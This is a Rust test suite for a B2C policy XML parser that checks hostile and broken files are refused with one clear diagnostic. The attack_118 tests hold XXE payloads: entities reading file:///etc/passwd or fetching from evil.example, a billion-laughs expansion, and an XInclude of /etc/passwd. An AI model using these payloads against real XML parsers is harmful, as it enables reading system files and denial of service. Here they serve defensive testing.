//! Files that nobody wrote with good intent, or that a disk or an editor broke: one clear diagnostic, no panic, quick
//! (attacks 118, 119, 123).

use super::syntax_tests::read;
use super::*;
use crate::source::{Sources, Spanned};
use proptest::prelude::*;
use std::time::{Duration, Instant};

const HEAD: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<TrustFrameworkPolicy xmlns="http://schemas.microsoft.com/online/cpim/schemas/2013/06"
  PolicySchemaVersion="0.3.0.0" TenantId="contoso.onmicrosoft.com" PolicyId="B2C_1A_T" PublicPolicyUri="http://t/T">"#;
const TAIL: &str = "</TrustFrameworkPolicy>";

/// A small policy with most constructs, for mutations.
const SAMPLE: &str = include_str!("../../../../policies/Base.xml");

fn policy(body: &str) -> Vec<u8> {
    format!("{HEAD}\n{body}\n{TAIL}").into_bytes()
}

/// The only finding, as `code line:column | message | help`, read within a second.
fn only(bytes: &[u8]) -> String {
    let start = Instant::now();
    let read = read(bytes);
    let told: Vec<String> = read
        .found
        .iter()
        .map(|one| {
            let at = read.sources.get(read.id).expect("the file").position(one.span.start);
            let help =
                if one.help.is_empty() { String::new() } else { format!(" | {}", one.help.join("; ")) };
            format!("{} {}:{} | {}{help}", one.code.id, at.line, at.column, one.message)
        })
        .collect();
    read.found.to_text(&read.sources, true);
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
    assert_eq!(told.len(), 1, "{told:?}");
    told.into_iter().next().unwrap_or_default()
}

#[test]
fn attack_118_a_document_type_is_refused_whatever_it_declares() {
    let declarations = [
        "",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<!ENTITY x SYSTEM 'http://evil.example/x'>",
        "<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;",
        "<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>",
        "<!ATTLIST TrustFrameworkPolicy PolicyId CDATA 'B2C_1A_Evil'>",
    ];
    for declaration in declarations {
        let document = format!(
            "<!DOCTYPE TrustFrameworkPolicy [{declaration}]>\n<TrustFrameworkPolicy>&x;</TrustFrameworkPolicy>"
        );
        let told = only(document.as_bytes());
        assert!(
            told.starts_with("V0007 1:1 | a policy may not contain a document type definition | remove"),
            "{told}"
        );
    }
    let late = only(&policy("<!DOCTYPE x><BuildingBlocks/>"));
    assert!(late.starts_with("V0007 4:1 |"), "{late}");
    let external = only(b"<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'><x/>");
    assert!(external.starts_with("V0007 1:1 |"), "{external}");
}

#[test]
fn attack_118_an_entity_of_ones_own_is_unknown() {
    let told = only(&policy("<BuildingBlocks>&nbsp;</BuildingBlocks>"));
    assert_eq!(
        told,
        "V0006 4:17 | `&nbsp;` is not an entity of XML | write the character itself, or `&amp;` for an ampersand"
    );
}

#[test]
fn attack_118_xinclude_is_an_unknown_element_and_fetches_nothing() {
    let include =
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>";
    let told = only(&policy(include));
    assert!(told.starts_with("V0101 4:1 | `TrustFrameworkPolicy` has no element `include`"), "{told}");
}

#[test]
fn attack_119_1_mib_and_a_byte_is_refused_by_its_length() {
    let size = usize::try_from(MAX_BYTES).expect("a small number");
    let whole = policy("");
    let padded = |length: usize| [whole.clone(), vec![b' '; length - whole.len()]].concat();
    assert!(read(&padded(size)).found.is_empty());
    let told = only(&padded(size + 1));
    assert!(told.starts_with("V0001 1:1 | the file has 1048577 bytes; a policy may have 1048576"), "{told}");
}

#[test]
fn attack_119_encodings_that_are_not_what_they_say() {
    let text = String::from_utf8(policy("")).expect("text");
    let utf16 = |mark: bool, bytes: fn(u16) -> [u8; 2]| -> Vec<u8> {
        let units = mark.then_some(0xFEFF).into_iter().chain(text.encode_utf16());
        units.flat_map(bytes).collect()
    };
    assert!(read(&utf16(true, u16::to_le_bytes)).found.is_empty());
    assert!(read(&utf16(true, u16::to_be_bytes)).found.is_empty());
    assert!(only(&utf16(false, u16::to_le_bytes)).starts_with("V0003 1:1 | the file is UTF-16 without"));
    assert!(only(&utf16(false, u16::to_be_bytes)).starts_with("V0003 1:1 |"));
    let latin1 = text.replace("utf-8", "iso-8859-1").replace("t/T", "t/Ü");
    assert!(read(latin1.as_bytes()).found.is_empty(), "UTF-8 under a Latin-1 header");
    let bytes: Vec<u8> = latin1.chars().map(|one| u8::try_from(u32::from(one)).expect("Latin-1")).collect();
    assert_eq!(read(&bytes).tree.public_policy_uri.as_deref().map(String::as_str), Some("http://t/Ü"));
    assert!(
        only(&text.replace("t/T", "t/\0").into_bytes())
            .starts_with("V0005 3:114 | the file contains a NUL character")
    );
    let told = only(&[text.as_bytes(), b"\xFF"].concat());
    assert!(told.starts_with("V0002 5:24 | the byte FF is not UTF-8"), "{told}");
    assert!(only(&text.replace("utf-8", "ebcdic").into_bytes()).starts_with("V0004 1:31 |"));
}

#[test]
fn attack_119_a_file_cut_anywhere_is_told_to_end_early() {
    let length = SAMPLE.trim_end().len();
    for at in (0..length).step_by(97) {
        let told = only(SAMPLE.as_bytes().get(..at).expect("inside"));
        assert!(told.starts_with("V0006 ") || told.starts_with("V0002 "), "cut at {at}: {told}");
    }
}

#[test]
fn attack_119_an_empty_file_has_no_element() {
    for bytes in [&b""[..], b"\xEF\xBB\xBF", b"  \n", b"<!-- nothing -->", b"<?xml version='1.0'?>"] {
        let told = only(bytes);
        assert!(told.starts_with("V0006 ") && told.contains("the file contains no element"), "{told}");
    }
}

#[test]
fn a_hundred_thousand_levels_do_not_exhaust_the_stack() {
    let deep = policy(&"<a>".repeat(100_000));
    assert!(
        only(&deep).starts_with("V0008 4:298 | elements are nested deeper than 100 levels"),
        "{}",
        only(&deep)
    );
    let closed = policy(&format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)));
    assert!(only(&closed).starts_with("V0008 "));
}

#[test]
fn a_million_attributes_are_not_compared_with_each_other() {
    let many = |count: usize| (0..count).map(|at| format!(" a{at}=''")).collect::<String>();
    let told = only(&policy(&format!("<BuildingBlocks{}/>", many(100_000))));
    assert!(told.starts_with("V0009 4:1 | an element has more than 64 attributes"), "{told}");
    let spread = (0..16_000).map(|at| format!("<a{at}{}/>", many(5))).collect::<String>();
    let start = Instant::now();
    let found = read(&policy(&spread)).found;
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
    assert_eq!(found.iter().count(), Diagnostics::LIMIT, "16,000 unknown elements are not all kept");
    assert_eq!(found.count(), 16_000);
    let spaces = (0..60).map(|at| format!(" xmlns:a{at}='urn:{at}'")).collect::<String>();
    let told = only(&policy(&format!("<a{spaces}/>").repeat(500)));
    assert!(told.starts_with("V0009 ") && told.contains("256 namespaces"), "{told}");
}

#[test]
fn a_providers_many_domains_are_not_copied_into_its_many_profiles() {
    let domains = "<Domain>a</Domain>".repeat(20_000);
    let profiles: String = (0..4_000).map(|at| format!("<TechnicalProfile Id='{at}'/>")).collect();
    let start = Instant::now();
    let read = read(&policy(&format!(
        "<ClaimsProviders><ClaimsProvider><Domains>{domains}</Domains><TechnicalProfiles>{profiles}</TechnicalProfiles>\
         </ClaimsProvider></ClaimsProviders>"
    )));
    assert!(read.found.is_empty());
    let [provider] = read.tree.claims_providers.as_slice() else { panic!("one provider") };
    assert!(Arc::ptr_eq(&provider.names.domains, &provider.technical_profiles[3_999].provider.domains));
    assert!(start.elapsed() < Duration::from_secs(10), "took {:?}", start.elapsed());
}

#[test]
fn broken_xml_is_explained_in_plain_words() {
    let cases = [
        ("<BuildingBlocks>", "V0006 5:1 | `</TrustFrameworkPolicy>` closes `<BuildingBlocks>`"),
        ("<BuildingBlocks></BuildingBlock>", "V0006 4:17 | `</BuildingBlock>` closes `<BuildingBlocks>`"),
        ("<a b='1' b='2'/>", "V0006 4:10 | the attribute `b` is given twice | remove one of the two"),
        (
            "<a b='1'\u{A0}c='2'/>",
            "V0006 4:9 | the character U+00A0 (non-breaking space) is no space for XML | replace it by an ordinary space",
        ),
        ("<a b=\u{201C}1\u{201D}/>", "V0006 4:6 | `\u{201C}` is no quotation mark for XML | write `\"`"),
        ("<a b='x & y'/>", "V0006 4:9 | `&` begins an entity | write `&amp;` for an ampersand"),
        ("<a>x & y</a>", "V0006 4:6 | `&` begins an entity | write `&amp;` for an ampersand"),
        (
            "<a b='<'/>",
            "V0006 4:7 | `<` may not stand in the value of an attribute | write `&lt;`, or look for a closing quote that is missing before this place",
        ),
        (
            "<p:a/>",
            "V0006 4:2 | the namespace prefix `p` is not declared | declare it with `xmlns:p=\"…\"` or remove it",
        ),
        (
            "<!-- a -- b -->",
            "V0006 4:8 | `--` may not stand inside a comment | write a single `-`, or close the comment with `-->`",
        ),
        (
            "<!-- a <!-- b --> -->",
            "V0006 4:8 | a comment may not stand inside a comment | close the outer one with `-->` before this place",
        ),
        ("<!-- a", "V0006 4:1 | the comment that begins here is never closed | write `-->` at its end"),
        (
            "<a>x</a><![CDATA[y",
            "V0006 4:9 | the CDATA section that begins here is never closed | write `]]>` at its end",
        ),
        ("<a b='1'c='2'/>", "V0006 4:9 | a space is missing before this attribute"),
        (
            "<a b=1/>",
            "V0006 4:6 | the value of an attribute must stand in quotation marks | write `name=\"value\"`",
        ),
        (
            "<a>x < y</a>",
            "V0006 4:7 | `<` begins a tag, but no name follows | write `&lt;` for the character itself",
        ),
        ("<a b='1' \\>", "V0006 4:10 | a backslash has no place in a tag | a tag ends with `>` or `/>`"),
        (
            "<<<<<<< HEAD\n<a/>",
            "V0006 4:2 | a merge conflict was left unresolved here | choose one of the two versions, and remove the lines with `<<<<<<<`, `=======` and `>>>>>>>`",
        ),
        ("<a>&#x0B;</a>", "V0006 4:4 | `&#x0B;` is not a character that may stand in XML | remove it"),
        (
            "<?xml version='1.0'?>",
            "V0006 4:1 | the XML declaration must be the very first thing in the file | remove what stands before it, white space included",
        ),
        ("\u{1}", "V0006 4:1 | the character U+0001 may not stand in XML"),
        ("<a b/>", "V0006 4:5 | expected `=` here"),
    ];
    for (body, expected) in cases {
        assert_eq!(only(&policy(body)), expected, "{body:?}");
    }
}

#[test]
fn what_stands_beside_the_root_element_is_told_as_that() {
    let behind = only(&[policy("").as_slice(), b"garbage"].concat());
    assert!(behind.contains("| text behind the end of the root element |"), "{behind}");
    let second = only(&[policy("").as_slice(), b"<TrustFrameworkPolicy/>"].concat());
    assert!(second.contains("| a second root element begins here |"), "{second}");
    let json = only(b"{\"a\":1}");
    assert!(json.starts_with("V0006 1:1 | the file does not begin as XML does |"), "{json}");
}

#[test]
fn bytes_of_another_encoding_are_shown_as_what_they_likely_are() {
    let told = |bytes: &[u8]| {
        let read = read(bytes);
        let finding = read.found.iter().next().expect("one finding").clone();
        assert_eq!(read.found.count(), 1);
        (finding.message, finding.help.join(" "))
    };
    let (message, help) = told(b"<a b='1'\xA0c='2'/>");
    assert_eq!(message, "the byte A0 is not UTF-8; in Windows-1252 it is a non-breaking space");
    assert_eq!(help, "replace it by an ordinary space, and save the file as UTF-8");
    assert_eq!(told(b"<a>\xE9</a>").0, "the byte E9 is not UTF-8; in Windows-1252 it is `\u{E9}`");
    assert_eq!(told(b"<a>\x92</a>").0, "the byte 92 is not UTF-8; in Windows-1252 it is `\u{2019}`");
}

#[test]
fn a_cut_file_points_at_what_is_open() {
    let read = read(format!("{HEAD}\n<BuildingBlocks>\n <ClaimsSchema>").as_bytes());
    let finding = read.found.iter().next().expect("one finding");
    assert_eq!(finding.message, "the file ends before `<ClaimsSchema>` is closed");
    assert_eq!(read.sources.slice(finding.related[0].span), "<ClaimsSchema");
    assert!(!read.tree.readable);
    assert_eq!(read.tree.policy_id.as_ref().map(|id: &Spanned<String>| id.value.as_str()), Some("B2C_1A_T"));
}

/// Reads and shows a file; whatever it holds, that must end without a panic.
fn survive(bytes: &[u8]) {
    let mut sources = Sources::default();
    let id = sources.add("mutant.xml", bytes);
    let (_, found) = parse(sources.get(id).expect("just added"));
    for one in found.iter().take(3) {
        one.to_text(&sources, false);
        one.to_json(&sources);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn attack_123_flipped_deleted_and_copied_bytes_do_no_harm(
        changes in prop::collection::vec((0_usize..60_000, 0_u8..=255, 0_usize..3, 0_usize..200), 1..6)
    ) {
        let mut bytes = SAMPLE.as_bytes().to_vec();
        for (at, byte, how, length) in changes {
            let at = at % bytes.len();
            let end = (at + length).min(bytes.len());
            match how {
                0 => bytes[at] = byte,
                1 => drop(bytes.drain(at..end)),
                _ => {
                    let piece = bytes[at..end].to_vec();
                    bytes.splice(at..at, piece);
                }
            }
            if bytes.is_empty() {
                break;
            }
        }
        survive(&bytes);
    }

    #[test]
    fn attack_123_any_mix_of_markup_does_no_harm(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
        survive(pieces.concat().as_bytes());
        survive(&policy(&pieces.concat()));
    }
}

const PIECES: &[&str] = &[
    "<",
    ">",
    "/>",
    "</",
    "<a",
    " b='",
    "'",
    "\"",
    "=",
    "&",
    ";",
    "&#x0;",
    "&#65;",
    "&amp;",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?x",
    "?>",
    "<?xml ",
    "<!DOCTYPE",
    "xmlns",
    ":",
    " ",
    "\n",
    "\r",
    "\t",
    "ä",
    "\u{2028}",
    "\u{85}",
    "\u{feff}",
    "<BuildingBlocks>",
    "</BuildingBlocks>",
    "<ClaimsSchema>",
    "</ClaimsSchema>",
    "<ClaimType Id='a'/>",
    "text",
];
